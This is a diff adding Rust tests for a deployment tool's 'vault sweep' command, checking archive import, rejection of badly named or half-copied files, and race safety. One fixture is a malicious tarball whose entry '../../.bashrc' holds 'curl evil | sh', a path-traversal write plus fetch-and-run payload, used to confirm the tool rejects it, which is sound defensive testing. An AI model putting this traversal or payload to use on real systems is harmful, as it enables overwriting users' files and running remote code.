@@ -182,3 +182,125 @@ fn a_run_of_a_vault_package_deploys_its_blobs() {
         .expect("deployed war");
     assert!(war.contains("1.4.0"), "{war}");
 }
+
+/// A `.tar.gz` of `files` at `path`; names are written as given (an attacker's `..` too).
+fn tar_gz(path: &std::path::Path, files: &[(&str, &[u8])]) {
+    let gz = flate2::write::GzEncoder::new(
+        std::fs::File::create(path).expect("create"),
+        flate2::Compression::default(),
+    );
+    let mut b = tar::Builder::new(gz);
+    for (name, data) in files {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_entry_type(tar::EntryType::Regular);
+        let bytes = name.as_bytes();
+        h.as_old_mut().name[..bytes.len()].copy_from_slice(bytes);
+        h.set_cksum();
+        b.append(&h, *data).expect("append");
+    }
+    b.into_inner().expect("tar").finish().expect("gz");
+}
+
+#[test]
+fn the_drop_directory_is_swept_into_the_vault() {
+    let (home, data) = demo();
+    let drop = data.join("drop");
+    tar_gz(
+        &drop.join("pets-1.5.0.tar.gz"),
+        &[
+            ("pets.war", b"pets 1.5.0"),
+            ("sql/V1.5.0.sql", b"select 1;"),
+        ],
+    );
+    tar_gz(
+        &drop.join("pets-6.6.6.tgz"),
+        &[("../../.bashrc", b"curl evil | sh")],
+    );
+    std::fs::write(drop.join("unknown-1.0.war"), "whose?").expect("write");
+    // Still being copied: left alone by a sweep that waits for 10 s of calm.
+    std::fs::write(drop.join("pets-1.6.0.war"), "half a w").expect("write");
+
+    let (code, out, err) = pilote(&home, &["vault", "sweep", "--json"]);
+    assert_eq!(code, 0, "{out}{err}");
+    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
+    let waiting: Vec<&str> = v["waiting"]
+        .as_array()
+        .expect("waiting")
+        .iter()
+        .filter_map(|w| w.as_str())
+        .collect();
+    assert!(waiting.contains(&"pets-1.6.0.war"), "{out}");
+    assert_eq!(v["imported"].as_array().map(Vec::len), Some(0), "{out}");
+
+    let (code, out, err) = pilote(&home, &["vault", "sweep", "--settle", "0"]);
+    assert_eq!(code, 0, "{out}{err}");
+    assert!(out.contains("imported  pets-1.4.0: pets 1.4.0"), "{out}");
+    assert!(
+        out.contains("imported  pets-1.5.0.tar.gz: pets 1.5.0"),
+        "{out}"
+    );
+    assert!(
+        out.contains("imported  pets-1.6.0.war: pets 1.6.0"),
+        "{out}"
+    );
+    assert!(
+        out.contains(
+            "rejected  pets-6.6.6.tgz: ../../.bashrc: `..` would write outside the package"
+        ),
+        "{out}"
+    );
+    assert!(
+        out.contains("rejected  unknown-1.0.war: `unknown-1.0.war` is not named APP-VERSION"),
+        "{out}"
+    );
+    let reason =
+        std::fs::read_to_string(drop.join("rejected/pets-6.6.6.tgz.reason")).expect("reason");
+    assert!(
+        reason.contains("would write outside the package"),
+        "{reason}"
+    );
+    assert!(drop.join("imported/pets-1.5.0.tar.gz").exists());
+    assert!(!home.path().join(".bashrc").exists() && !data.join(".bashrc").exists());
+    let (_, out, _) = pilote(&home, &["vault", "show", "pets", "1.5.0", "--json"]);
+    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
+    assert_eq!(
+        v["package"]["artifacts"][1]["path"], "sql/V1.5.0.sql",
+        "{out}"
+    );
+    let (_, out, _) = pilote(&home, &["vault", "list", "--json"]);
+    assert!(
+        !out.contains("6.6.6"),
+        "a rejected drop reached the vault: {out}"
+    );
+}
+
+#[test]
+fn two_sweeps_racing_import_each_drop_once() {
+    let (home, data) = demo();
+    for v in ["2.0.0", "2.0.1", "2.0.2"] {
+        tar_gz(
+            &data.join(format!("drop/pets-{v}.tar.gz")),
+            &[("pets.war", v.as_bytes())],
+        );
+    }
+    let results: Vec<(i32, String, String)> = std::thread::scope(|s| {
+        let a = s.spawn(|| pilote(&home, &["vault", "sweep", "--settle", "0"]));
+        let b = s.spawn(|| pilote(&home, &["vault", "sweep", "--settle", "0"]));
+        vec![a.join().expect("a"), b.join().expect("b")]
+    });
+    for (code, out, err) in &results {
+        assert_eq!(*code, 0, "{out}{err}");
+        assert!(!out.contains("rejected"), "{out}");
+    }
+    let (_, out, _) = pilote(&home, &["audit", "--json"]);
+    let v: serde_json::Value = serde_json::from_str(&out).expect("json");
+    let imports = v["events"]
+        .as_array()
+        .expect("events")
+        .iter()
+        .filter(|e| e["action"] == "vault.import")
+        .count();
+    assert_eq!(imports, 4, "1.4.0 and three 2.0.x, each once: {out}");
+}
